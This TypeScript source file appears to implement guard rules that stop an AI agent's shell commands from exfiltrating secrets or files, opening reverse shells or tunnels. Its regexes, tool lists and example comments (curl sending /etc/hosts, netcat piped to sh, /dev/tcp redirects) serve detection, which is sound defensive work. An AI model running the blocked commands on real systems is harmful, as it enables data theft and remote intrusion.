import type { GuardContext, GuardRules, GuardTest, SimpleCommand, Word } from '../api.ts';
import { hasFlag, operands, textsOf } from '../options.ts';
import { mayWrite, pathOf, placeOfWord } from '../paths.ts';
import { namesIn } from '../tables.ts';
import { wordOf } from '../words.ts';
import {
  bodiesOf,
  codeOf,
  feeders,
  INTERPRETERS,
  isLocalHost,
  LANGUAGES,
  pathsInCode,
  SENDERS,
  SHELLS,
  sends,
  sendsInput,
  sourcesOfWords,
  standardInputText,
  uploads,
} from './matching/network.ts';
import { isConfidentialPath, pathsIn } from './matching/secrets.ts';
import { anyOf, familyOf, forPrograms, shapes } from './matching/shape.ts';

/** Programs that print the environment, typed commands, or copied text. */
const ENVIRONMENT = /^(env|printenv|set|export|declare|history|xclip|xsel|pbpaste|wl-paste)$/;

/** Whether a command outputs secrets: it names a confidential file, or prints the environment. */
function holdsSecrets(command: SimpleCommand, context: GuardContext): boolean {
  if (ENVIRONMENT.test(command.name)) return true;
  const redirected = command.redirects.filter(({ operator }) => operator.startsWith('<')).map(({ target }) => target);
  const input = command.input.kind === 'file' ? [command.input.file] : [];
  return [...command.args, ...redirected, ...input].some((word) =>
    pathsIn(word, command, context).some((path) => isConfidentialPath(path, context)),
  );
}

/** `curl -d @/etc/hosts`, `nc HOST PORT < /etc/hosts`: a file of the machine, not the project. */
const sendsForeignFile = forPrograms(
  SENDERS,
  (command, context) =>
    sends(command) &&
    [...bodiesOf(command), ...fileSent(command)].some((word) => {
      const place = word.text.startsWith('@')
        ? placeOfWord({ ...word, text: word.text.slice(1) }, command, context)
        : 'inside';
      return !mayWrite(place) && place !== 'unknown';
    }),
);

function fileSent(command: SimpleCommand): readonly Word[] {
  const { input } = command;
  if (input.kind !== 'file' || command.name === 'ssh' || !sendsInput(command)) return [];
  return [{ ...input.file, text: `@${input.file.text}` }];
}

const sendsSecrets = forPrograms(SENDERS, (command, context, script) => {
  if (!sends(command)) return false;
  if (command.name !== 'ssh' && holdsSecrets(command, context)) return true;
  return [...feeders(command), ...sourcesOfWords(command, script)].some((source) => holdsSecrets(source, context));
});

/** `curl -d "$GITHUB_TOKEN" https://…`, except as a sign-in header. */
const sendsVariable = forPrograms(SENDERS, (command) => {
  if (!sends(command)) return false;
  const shown = command.source.replace(/(-H|--header|-u|--user|--oauth2-bearer)[= ]?("[^"]*"|'[^']*'|\S+)/g, '');
  return /\$\{?[A-Z0-9_]*(TOKEN|SECRET|PASSWORD|API_?KEY|ACCESS_KEY|PRIVATE_KEY)/.test(shown);
});

const PACKERS =
  /^(tar|bsdtar|zip|7z|7za|cpio|dd|find|git|gzip|zstd|xz|pg_dump|mysqldump|mongodump|pg_dumpall|cat|base64)$/;

/** A whole folder, a repository or a database, packed and sent. */
const sendsArchive = forPrograms(SENDERS, (command) => {
  const packers = feeders(command).filter(
    ({ name }) => PACKERS.test(name) && !/^(cat|gzip|zstd|xz|base64)$/.test(name),
  );
  return sendsInput(command) && packers.length > 0;
});

/** `'https://…?' + process.env.TOKEN`, `https://…${process.env.TOKEN}`. */
const SECRET_IN_ADDRESS =
  /https?:\/\/[^\s"'`]{0,200}["'`]?\s*[+,.%]?\s*(\$\{)?\s*(process\.env|os\.environ|os\.getenv|ENV)\W{1,3}\w*(TOKEN|SECRET|PASSW|KEY)/;

const CODE_SENDS =
  /\.(post|put)\s*\(|https?["')]*\.(get|request)\(|urlopen|http\.request|fetch\(|smtplib|socket|axios|ftplib|Net::HTTP|curl_exec|HTTP::Tiny|LWP/;

const sendsInCode = forPrograms(INTERPRETERS, (command, context) =>
  codeOf(command).some(
    (code) =>
      CODE_SENDS.test(code) &&
      !/localhost|127\.0\.0\.1/.test(code) &&
      (/\benviron\b(?!\[|\.get)|process\.env\b(?![.[])|ENV\.to_h/.test(code) ||
        SECRET_IN_ADDRESS.test(code) ||
        pathsInCode(code).some((text) => {
          const path = pathOf(wordOf(text), command, context);
          return path !== null && isConfidentialPath(path, context);
        })),
  ),
);

/** `dig $(…).host`: the output of a substitution leaves as a name to look up. */
const sendsByName = forPrograms('dig nslookup host drill ping', (command, _context, script) =>
  sourcesOfWords(command, script).some(({ name }) => !/^(hostname|dirname)$/.test(name)),
);

export const exfiltration: GuardRules = {
  'exfiltration/secrets': {
    reason: 'This sends keys, tokens or the environment to another machine.',
    alternative: 'Secrets stay here; test against a local server with made-up values.',
    matches: anyOf(sendsSecrets, sendsForeignFile, sendsVariable, sendsInCode),
  },
  'exfiltration/upload': {
    reason: 'This uploads files or a whole folder to another machine.',
    alternative: 'Leave the result in the work tree and name it in your report.',
    matches: anyOf(sendsArchive, forPrograms(SENDERS, uploads)),
  },
  'exfiltration/copy': {
    reason: 'This copies files to another machine or puts them on a public page.',
    alternative: 'Leave the result in the work tree and name it in your report.',
    profiles: ['run'],
    matches: anyOf(
      forPrograms('scp rsync sftp rclone azcopy gsutil aws s3cmd', sends),

      'gh gist create',
      'glab snippet create',
      'croc|ffsend|wormhole|magic-wormhole send|tx',
      'croc|transfer|pastebinit|termbin|ix|gist|0x0|sprunge *',
      'git send-email|bundle-uri',
    ),
  },
  'exfiltration/lookup': {
    reason: 'This hides data in the host names that it looks up.',
    alternative: 'Look up plain names only.',
    matches: sendsByName,
  },
};

const NETCATS: readonly string[] = namesIn('nc ncat netcat pwncat cryptcat rustcat rcat');
const NETWORK_FILE = /^\/dev\/(tcp|udp)\/([^/]+)\//;

/** Words and redirections to `/dev/tcp/HOST/PORT`, except for this machine. */
const usesNetworkFile: GuardTest = (command) =>
  [...command.redirects.map(({ target }) => target), ...command.args].some(({ text }) => {
    const host = NETWORK_FILE.exec(text)?.[2];
    return host !== undefined && !isLocalHost(host);
  });

const listensForShell = anyOf(
  forPrograms(NETCATS, (command) => hasFlag(command, 'e', 'c', 'exec', 'sh-exec', 'lua-exec')),
  forPrograms('socat', ({ args }) =>
    args.some(({ text }) => /^(exec|system|shell|tun|tcp-?l(isten)?\b.*fork.*exec)/i.test(text)),
  ),
);

/** A shell whose input or output is a network connection: `nc HOST PORT | sh`, `sh -i | nc HOST PORT`. */
const pipesShell = anyOf(
  forPrograms(
    [...NETCATS, 'socat', 'telnet', 'openssl'],
    (command) => isNetwork(command) && feeders(command).some(({ name }) => SHELLS.includes(name)),
  ),
  forPrograms(SHELLS, (command) => feeders(command).some(isNetwork)),
);

function isNetwork(command: SimpleCommand): boolean {
  if (NETCATS.includes(familyOf(command.name)))
    return !operands(command).some(({ text }) => isLocalHost(text)) || hasFlag(command, 'l');
  return (
    /^(socat|telnet|openssl)$/.test(command.name) &&
    (command.name !== 'openssl' || command.args[0]?.text === 's_client')
  );
}

/** Code that opens a connection, and code that attaches a shell to it. */
const CONNECTS =
  /\bsocket\b|fsockopen|TCPSocket|net\.(connect|Socket|createConnection)|require\(["'](node:)?net["']\)|\/inet\/tcp|IO::Socket|use Socket|TCPClient|net\.Dial/;
const GIVES_SHELL =
  /(ba|z|da|k)?sh["'\s)]|\bpty\b|dup2|child_process|subprocess|getline|\bpopen|os\.(system|exec)|\bexec\b|proc_open|shell_exec|(?<!platform\.)system\s*[($]|fdopen|spawn|cmd\.exe|powershell/;

const connectsShell = forPrograms([...LANGUAGES, 'awk', 'gawk', 'go', 'java', 'jrunscript', 'pwsh'], (command) => {
  return [...textsOf(command.args), standardInputText(command)].some(
    (code) => CONNECTS.test(code) && GIVES_SHELL.test(code),
  );
});

export const reverseShell: GuardRules = {
  'reverse-shell/network-file': {
    reason: 'This opens a connection to another machine from the shell itself.',
    alternative: 'Use curl for plain requests.',
    matches: usesNetworkFile,
  },
  'reverse-shell/netcat': {
    reason: 'This connects a shell to the network.',
    alternative: 'No story needs it; test servers with curl on localhost.',
    matches: anyOf(listensForShell, pipesShell),
  },
  'reverse-shell/interpreter': {
    reason: 'This program connects a shell to the network.',
    alternative: 'No story needs it; test servers with curl on localhost.',
    matches: connectsShell,
  },
  'reverse-shell/tunnel': {
    reason: 'This opens a tunnel from the internet to this machine.',
    alternative: 'Test on localhost.',
    matches: shapes(
      'ngrok|localtunnel|lt|bore|frpc|chisel|pagekite|telebit|zrok|playit *',
      'cloudflared tunnel|access',
      'tailscale funnel|serve|up|ssh',
      'ssh|autossh -R|-D|-w',
      'lt|localtunnel --port|-p',
      'code|code-insiders tunnel',
      'devtunnel host',
      'tmate|sshuttle|upterm',
      'gsocket|gs-netcat|iodine|dnscat|dnscat2 *',
      'msfconsole|msfvenom|weevely|evil-winrm',
      'xhost +',
      'ztcp|zftp *',
    ),
  },
};
